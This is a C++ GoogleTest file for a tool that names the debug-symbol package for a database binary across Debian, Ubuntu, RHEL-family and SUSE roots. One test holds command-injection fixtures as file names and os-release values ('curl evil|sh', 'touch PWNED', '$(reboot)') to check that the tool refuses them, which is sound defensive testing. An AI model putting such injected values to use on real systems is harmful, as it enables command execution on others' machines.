// Roots as distributions lay them out.
#include "src/target/debug_package.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <sys/stat.h>
#include <unistd.h>

#include <filesystem>
#include <fstream>

namespace dbtrace::target {
namespace {

namespace fs = std::filesystem;
using ::testing::AllOf;
using ::testing::HasSubstr;
using ::testing::Not;

class DebugPackageOf : public ::testing::Test {
 protected:
  DebugPackageOf() {
    std::string name = fs::temp_directory_path() / "dbtrace-root-XXXXXX";
    root_ = ::mkdtemp(name.data());
  }
  ~DebugPackageOf() override { fs::remove_all(root_); }

  void write(const std::string& path, const std::string& content) {
    fs::create_directories((root_ / path).parent_path());
    std::ofstream(root_ / path) << content;
  }
  void is_debian() {
    write("etc/os-release",
          "PRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\nID=debian\nVERSION_CODENAME=bookworm\n");
  }
  [[nodiscard]] std::optional<DebugPackage> of(const std::string& program) const {
    return debug_package(root_.string(), program);
  }
  [[nodiscard]] std::string advice(const std::string& program) const {
    const auto package = of(program);
    return package ? package->advice : "";
  }

  fs::path root_;
};

TEST_F(DebugPackageOf, ADebianPackageIsNamedByItsOwner) {
  is_debian();
  write("var/lib/dpkg/info/other.list",
        "/.\n/usr\n/usr/sbin/mariadbd-safe\n/x/usr/sbin/mariadbd\n");
  write("var/lib/dpkg/info/mariadb-server-core.list", "/.\n/usr/sbin\n/usr/sbin/mariadbd\n");
  write("var/lib/dpkg/info/mariadb-server-core.md5sums", "/usr/sbin/mariadbd\n");
  const auto package = of("/usr/sbin/mariadbd");
  ASSERT_TRUE(package);
  EXPECT_EQ(package->distribution, "Debian GNU/Linux 12 (bookworm)");
  EXPECT_EQ(package->owner, "mariadb-server-core");
  EXPECT_THAT(package->advice, AllOf(HasSubstr("mariadb-server-core-dbgsym"),
                                     HasSubstr("debian-debug"), HasSubstr("bookworm-debug")));
}

TEST_F(DebugPackageOf, ArchitecturesAndMergedFoldersDoNotMatter) {
  is_debian();
  write("var/lib/dpkg/info/thing:amd64.list", "/sbin/thing");  // no line break at its end
  EXPECT_EQ(of("/usr/sbin/thing")->owner, "thing");
}

// It will be typed into a shell, and who made the root chose the names.
TEST_F(DebugPackageOf, NoAdviceIsACommandOfSomebodyElses) {
  is_debian();
  write("var/lib/dpkg/info/x; curl evil|sh #.list", "/usr/sbin/thing\n");
  EXPECT_EQ(of("/usr/sbin/thing")->owner, "");
  EXPECT_FALSE(of("/a;touch PWNED;b/mysqld"));
  write("etc/os-release", "ID=debian\nVERSION_CODENAME=\"$(reboot)\"\n");
  EXPECT_FALSE(of("/usr/sbin/thing"));
}

TEST_F(DebugPackageOf, WhatNobodyPackagedHasNoPackage) {
  is_debian();
  write("var/lib/dpkg/info/thing.list", "/usr/sbin/thing\n");
  EXPECT_EQ(of("/opt/mysql/bin/mysqld")->owner, "");
  EXPECT_THAT(advice("/opt/mysql/bin/mysqld"),
              AllOf(HasSubstr("no package has /opt/mysql/bin/mysqld"), Not(HasSubstr("dbgsym"))));
}

TEST_F(DebugPackageOf, DerivedDistributionsFollowTheirFamily) {
  write("usr/lib/os-release", "ID=ubuntu\nID_LIKE=debian\nVERSION_CODENAME='noble'\n");
  write("var/lib/dpkg/info/postgresql-16.list", "/usr/lib/postgresql/16/bin/postgres\n");
  EXPECT_THAT(advice("/usr/lib/postgresql/16/bin/postgres"),
              AllOf(HasSubstr("postgresql-16-dbgsym"), HasSubstr("ddebs"), HasSubstr("noble")));
  write("usr/lib/os-release", "ID=\"almalinux\"\nID_LIKE=\"rhel centos fedora\"\n");
  EXPECT_EQ(advice("/usr/libexec/mariadbd"),
            "dnf debuginfo-install $(rpm -qf /usr/libexec/mariadbd)");
  write("usr/lib/os-release", "ID=fedora\n");
  EXPECT_THAT(advice("/usr/libexec/mariadbd"), HasSubstr("dnf debuginfo-install"));
  write("usr/lib/os-release", "ID=opensuse-leap\nID_LIKE=\"suse opensuse\"\n");
  EXPECT_THAT(advice("/usr/sbin/mariadbd"),
              HasSubstr("rpm -qf --qf '%{NAME}-debuginfo' /usr/sbin/mariadbd"));
}

TEST_F(DebugPackageOf, AnUnknownDistributionSaysNothing) {
  EXPECT_FALSE(of("/usr/sbin/mysqld"));
  write("etc/os-release", "ID=plan9\nPRETTY_NAME=ID=debian\n");
  EXPECT_FALSE(of("/usr/sbin/mysqld"));
}

// A container's files are a stranger's.
TEST_F(DebugPackageOf, AStrangersRootCanNeitherLeadOutNorMakeUsWait) {
  const fs::path outside = root_.string() + "-outside";
  std::ofstream(outside) << "ID=debian\n";
  fs::create_directories(root_ / "etc");
  fs::create_symlink(outside, root_ / "etc/os-release");
  EXPECT_FALSE(of("/usr/sbin/mysqld"));
  fs::remove(outside);

  fs::remove(root_ / "etc/os-release");
  is_debian();
  fs::create_directories(root_ / "var/lib/dpkg/info");
  ASSERT_EQ(::mkfifo((root_ / "var/lib/dpkg/info/fifo.list").c_str(), 0600), 0);
  EXPECT_EQ(of("/usr/sbin/mysqld")->owner, "");
}

// /proc/PID/exe tells of a chroot as it is seen from outside.
TEST_F(DebugPackageOf, ARootsPathMayComeFromOutside) {
  is_debian();
  write("var/lib/dpkg/info/thing.list", "/usr/sbin/thing\n");
  const fs::path link = root_.string() + "-link";
  fs::create_directory_symlink(root_, link);
  const auto package = debug_package(link.string(), root_.string() + "/usr/sbin/thing");
  fs::remove(link);
  ASSERT_TRUE(package);
  EXPECT_EQ(package->owner, "thing");
}

}  // namespace
}  // namespace dbtrace::target
